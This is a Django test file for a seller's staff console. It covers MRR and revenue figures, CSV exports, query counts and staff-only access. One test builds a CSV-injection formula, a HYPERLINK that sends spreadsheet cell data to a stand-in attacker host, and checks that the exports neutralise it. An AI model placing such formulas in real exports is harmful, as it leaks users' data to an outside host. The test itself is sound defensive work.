"""The seller console against a scripted history whose numbers are known."""

from __future__ import annotations

import csv
import html
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import Account
from billing import revenue
from billing.models import Subscription
from catalog.models import ApiProduct, Plan, PlanProduct
from seller.models import ConsoleSnapshot
from seller.tasks import refresh_console
from tests.gateway.support import make_key
from tests.usage.conftest import add_usage

pytestmark = pytest.mark.django_db
NOW = "2026-11-20 12:00:00+00:00"


def day(month: int, dom: int) -> datetime:
    return datetime(2026, month, dom, tzinfo=UTC)


@pytest.fixture
def script(time_machine):
    """Put a subscription in a state on a day, and record the change as billing does."""

    def at(when: datetime, account, plan, status, started=None, **fields):
        time_machine.move_to(when, tick=False)
        Subscription.objects.update_or_create(
            stripe_id=f"sub_{account.slug}",
            defaults={"account": account, "plan": plan, "status": status,
                      "started_at": started or when, **fields},
        )  # fmt: skip
        revenue.record(account, "stripe", f"sub_{account.slug}")

    return at


@pytest.fixture
def history(time_machine, user_factory, script):
    pro = Plan.objects.create(slug="pro", name="Pro", monthly_price=Decimal(29), trial_days=14)
    biz = Plan.objects.create(slug="biz", name="Biz", monthly_price=Decimal(99))

    alpha, beta, gamma, delta = (
        ApiProduct.objects.create(slug=s, name=s.title(), path_prefix=f"/{s}/",
                                  upstream_url="http://127.0.0.1:9/")
        for s in ("alpha", "beta", "gamma", "delta")
    )  # fmt: skip
    for plan, products in ((pro, (gamma, alpha, beta)), (biz, (alpha, delta))):
        for product in products:
            PlanProduct.objects.create(plan=plan, product=product)

    time_machine.move_to("2026-07-01 00:00:00+00:00", tick=False)
    old, gone = (Account.objects.create(name=n, slug=n) for n in ("old", "gone"))
    staff = user_factory(is_staff=True)  # before the window, with their personal account
    time_machine.move_to("2026-11-05 00:00:00+00:00", tick=False)
    n1, n2, n3, n4, n5 = (Account.objects.create(name=f"n{i}", slug=f"n{i}") for i in range(1, 6))

    script(day(8, 1), gone, pro, "trialing")
    script(day(8, 15), gone, pro, "active", started=day(8, 1))  # new +29 in August
    script(day(9, 1), old, pro, "trialing")
    script(day(9, 15), old, pro, "active", started=day(9, 1))  # new +29 in September
    script(day(10, 10), old, biz, "active", started=day(9, 1))  # expansion +70 in October
    script(day(11, 3), gone, pro, "canceled", started=day(8, 1), ended_at=day(11, 3))  # churn
    script(day(11, 5), n1, biz, "active")  # new +99
    script(day(11, 6), n4, biz, "active")  # new +99
    script(day(11, 12), n4, biz, "past_due", started=day(11, 6), past_due_since=day(11, 12))
    script(day(11, 5), n3, pro, "trialing")
    script(day(11, 10), n3, pro, "canceled", started=day(11, 5), ended_at=day(11, 10))
    script(day(11, 15), n2, pro, "trialing")
    script(day(11, 18), old, pro, "active", started=day(9, 1))  # contraction -70
    time_machine.move_to(NOW, tick=False)

    for account, calls in ((n1, 500), (n5, 100), (old, 50)):
        _, key = make_key(account)
        add_usage(account, key, day(11, 19), calls, endpoint="GET /hello")
        if account == n1:
            add_usage(account, key, day(11, 19), 20, "quota_exceeded", endpoint="GET /hello")
        if account == n5:
            add_usage(account, key, day(11, 18), 30, outcome="forbidden", endpoint="GET /premium")
    return staff


def test_the_console_shows_the_scripted_numbers(client, history):
    client.force_login(history)
    page = html.unescape(client.get("/staff/console/").content.decode())

    def cell(testid: str) -> str:
        start = page.index(f'data-testid="{testid}">') + len(f'data-testid="{testid}">')
        return page[start : page.index("<", start)]

    assert cell("mrr") == "$227.00"  # old 29 + n1 99 + n4 99
    assert cell("mrr-new") == "+$198.00"  # n1 and n4
    assert cell("mrr-churn") == "\N{MINUS SIGN}$29.00"  # gone; n3 never paid
    assert cell("trial-conversion") == "66.7%"  # old and gone paid after trial, n3 did not
    assert (cell("funnel-signed-up"), cell("funnel-first-call"), cell("funnel-paid")) == (
        "5", "2", "2"
    )  # fmt: skip
    assert (cell("plan-count-pro"), cell("plan-count-biz")) == ("2", "2")
    assert cell("refused-forbidden") == "30" and cell("refused-quota_exceeded") == "20"
    assert cell("overdue-n4") == "2026-11-12"
    assert page.index(">n1</a>") < page.index(">n5</a>") < page.index(">old</a>")  # top consumers
    assert "<code>GET /hello</code></td><td>650<" in page
    november = page[page.index('data-testid="month-2026-11"') :]
    november = november[: november.index("</tr>")]
    assert "$128.00</td><td>+$198.00</td><td>$0.00</td><td>\N{MINUS SIGN}$70.00</td>" in november
    assert "<td>\N{MINUS SIGN}$29.00</td><td>$227.00</td>" in november
    assert 'data-testid="month-2026-07"' not in page  # before the history began: unknown


def test_revenue_by_product_splits_each_plan_evenly(client, history):
    """Pro (old's 29; n2's trial pays nothing) over Alpha, Beta and Gamma: 9.67, 9.67, 9.66;
    Biz (n1 99 and n4 99, past due still counts) over Alpha and Delta: 99 each."""
    client.force_login(history)
    page = html.unescape(client.get("/staff/console/").content.decode())
    for slug, amount in (
        ("alpha", "108.67"),
        ("delta", "99.00"),
        ("beta", "9.67"),
        ("gamma", "9.66"),
    ):
        assert f'data-testid="product-mrr-{slug}">${amount}<' in page
    assert "split evenly across the products it includes" in page
    rows = [(r["product"], r["mrr"]) for r in read_csv(client, "products")]
    assert rows == [("Alpha", "108.67"), ("Delta", "99.00"), ("Beta", "9.67"),
                    ("Gamma", "9.66")]  # fmt: skip
    assert sum(Decimal(mrr) for _, mrr in rows) == Decimal("227.00")  # the console's MRR


def test_a_plan_without_products_is_revenue_of_no_product(client, history):
    PlanProduct.objects.filter(plan__slug="biz").delete()
    client.force_login(history)
    rows = [(r["product"], r["mrr"]) for r in read_csv(client, "products")]
    assert rows == [("(no product)", "198.00"), ("Alpha", "9.67"), ("Beta", "9.67"),
                    ("Gamma", "9.66")]  # fmt: skip


def read_csv(client, table: str) -> list[dict[str, str]]:
    response = client.get(f"/staff/console/{table}.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="console-{table}-')
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def test_every_month_of_movement_in_csv(client, history):
    client.force_login(history)
    rows = [
        (r["month"], r["mrr_at_start"], r["new"], r["expansion"], r["contraction"], r["churn"],
         r["mrr_at_end"])
        for r in read_csv(client, "mrr")
    ]  # fmt: skip
    assert rows == [
        ("2026-08", "0.00", "29.00", "0.00", "0.00", "0.00", "29.00"),
        ("2026-09", "29.00", "29.00", "0.00", "0.00", "0.00", "58.00"),
        ("2026-10", "58.00", "0.00", "70.00", "0.00", "0.00", "128.00"),
        ("2026-11", "128.00", "198.00", "0.00", "-70.00", "-29.00", "227.00"),
    ]
    assert [r["plan"] for r in read_csv(client, "plans")] == ["Biz", "Pro"]
    assert read_csv(client, "overdue") == [
        {"account_slug": "n4", "account_name": "n4", "plan": "Biz", "status": "past_due",
         "overdue_since": "2026-11-12T00:00:00+00:00"}
    ]  # fmt: skip


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_console_csv_cell_can_become_a_formula(client, history, start):
    """OWASP CSV injection: names a customer or the catalog chose, and endpoints (paths of the
    seller's API), start with a formula character; the cell gets an apostrophe and stays text."""
    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
    n1 = Account.objects.get(slug="n1")
    Account.objects.filter(slug__in=["n1", "n4"]).update(name=hostile)
    Plan.objects.filter(slug="biz").update(name=hostile)
    ApiProduct.objects.filter(slug="delta").update(name=hostile)
    _, key = make_key(n1)
    add_usage(n1, key, day(11, 19), 5000, endpoint=hostile)
    add_usage(n1, key, day(11, 19), 5000, "rate_limited", endpoint=hostile)
    client.force_login(history)
    safe = "'" + hostile
    assert read_csv(client, "consumers")[0]["account_name"] == safe
    assert read_csv(client, "overdue")[0]["account_name"] == safe
    assert read_csv(client, "plans")[0]["plan"] == safe
    assert read_csv(client, "endpoints")[0] == {"endpoint": safe, "live_calls_30_days": "5000"}
    assert read_csv(client, "refusals")[0]["endpoint"] == safe
    assert read_csv(client, "products")[1] == {"product": safe, "mrr": "99.00"}
    contraction = read_csv(client, "mrr")[-1]["contraction"]
    assert contraction == "-70.00"  # numbers are not text: a negative amount stays a number


def test_an_unknown_table_is_a_404_and_only_staff_export(client, history, alice):
    client.force_login(history)
    assert client.get("/staff/console/secrets.csv").status_code == 404
    client.force_login(alice)
    assert client.get("/staff/console/mrr.csv").status_code == 302


def console_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get("/staff/console/").status_code == 200
    return len(queries)


def test_the_console_costs_the_same_queries_however_many_accounts(client, history, script):
    """Every figure is aggregated by the database (usage ones in the snapshot): more accounts,
    subscriptions, plan changes and usage rows add no query (bench/console.py times it)."""
    client.force_login(history)
    console_queries(client)  # the first view computes the first snapshot
    before = console_queries(client)
    biz = Plan.objects.get(slug="biz")
    for n in range(30):
        product = ApiProduct.objects.create(
            slug=f"p{n}", name=f"P{n}", path_prefix=f"/p{n}/", upstream_url="http://127.0.0.1:9/"
        )
        PlanProduct.objects.create(plan=biz, product=product)
        account = Account.objects.create(name=f"more{n}", slug=f"more{n}")
        script(day(11, 19), account, biz, "past_due", past_due_since=day(11, 19))
        _, key = make_key(account)
        add_usage(account, key, day(11, 19), 10, endpoint=f"GET /e{n}")
        add_usage(account, key, day(11, 19), 1, "rate_limited", endpoint=f"GET /e{n}")
    refresh_console()
    assert console_queries(client) == before
    assert before <= 20


def test_usage_figures_come_from_the_newest_snapshot(client, history, time_machine):
    """New calls show once beat has refreshed the snapshot; older snapshots are dropped."""
    client.force_login(history)
    page = client.get("/staff/console/").content.decode()
    assert 'data-testid="usage-as-of">Usage figures on this page as of 12:00 UTC' in page
    n5 = Account.objects.get(slug="n5")
    _, key = make_key(n5)
    add_usage(n5, key, day(11, 20), 10_000, endpoint="GET /new")
    assert "GET /new" not in client.get("/staff/console/").content.decode()
    time_machine.move_to("2026-11-20 12:05:00+00:00", tick=False)
    for _ in range(5):
        refresh_console()
    page = html.unescape(client.get("/staff/console/").content.decode())
    assert "<code>GET /new</code></td><td>10,000<" in page
    assert page.index(">n5</a>") < page.index(">n1</a>")
    assert "as of 12:05 UTC" in page
    assert ConsoleSnapshot.objects.count() == 3


def test_only_staff_see_it(client, alice):
    client.force_login(alice)
    assert client.get("/staff/console/").status_code == 302
    assert "Console" not in client.get("/").content.decode()
